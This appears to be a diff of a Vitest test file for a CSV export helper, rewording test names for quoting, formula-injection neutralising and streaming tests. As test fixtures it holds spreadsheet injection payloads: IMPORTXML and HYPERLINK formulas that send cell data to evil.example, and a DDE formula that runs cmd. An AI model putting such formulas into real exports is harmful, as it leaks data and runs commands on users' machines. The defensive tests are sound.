@@ -3,7 +3,7 @@ import { join } from "node:path";
 import { expect, it } from "vitest";
 import { cellText, csvLine, csvResponse } from "@/lib/platform/csv";
 
-it("quotes texts, doubles their quotes, and leaves numbers and nothing as they are", () => {
+it("quotes texts, doubles their quotes, and does not change numbers and empty values", () => {
   expect(csvLine(["a", 'say "hi"', "a,b;c\nd", 5, -5, null, ""])).toBe('"a","say ""hi""","a,b;c\nd",5,-5,,""\r\n');
 });
 
@@ -44,15 +44,15 @@ it.each([
   ['=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")'],
   ['=DDE("cmd";"/C calc";"A0")'],
   ['=HYPERLINK("https://evil.example/?"&A1,"click")'],
-])("keeps a spreadsheet from calculating %j", (text) => {
+])("prevents a spreadsheet from calculating %j", (text) => {
   expect(csvLine([text])).toBe(`"'${text.replaceAll('"', '""')}"\r\n`);
 });
 
-it.each(["a=1", "1-1", "5 − 3", "1\n=1", "Ä＝", "ada@example.com", "'tis", " text"])("leaves %j as it is", (text) => {
+it.each(["a=1", "1-1", "5 − 3", "1\n=1", "Ä＝", "ada@example.com", "'tis", " text"])("does not change %j", (text) => {
   expect(csvLine([text])).toBe(`"${text}"\r\n`);
 });
 
-it("is how every CSV file is made, since nothing else sends one", () => {
+it("is used for every CSV file, because no other code sends one", () => {
   const sources = ["app", "components", "lib", "server"].flatMap((folder) =>
     readdirSync(folder, { recursive: true, encoding: "utf8" }).map((path) => join(folder, path)),
   );
@@ -71,12 +71,12 @@ it("is how every CSV file is made, since nothing else sends one", () => {
   ]);
 });
 
-it.each(["=1", "'=1", "''\t1", "'tis", "plain"])("gives %j back as it was", (text) => {
+it.each(["=1", "'=1", "''\t1", "'tis", "plain"])("reads %j back unchanged", (text) => {
   const [, cell = ""] = /^"(.*)"\r\n$/s.exec(csvLine([text])) ?? [];
   expect(cellText(cell)).toBe(text);
 });
 
-it("sends the file while rows are still being read, and reads no more once nobody listens", async () => {
+it("sends the file while rows are read, and stops reading when the client leaves", async () => {
   let read = 0;
   async function* rows() {
     for (;;) {
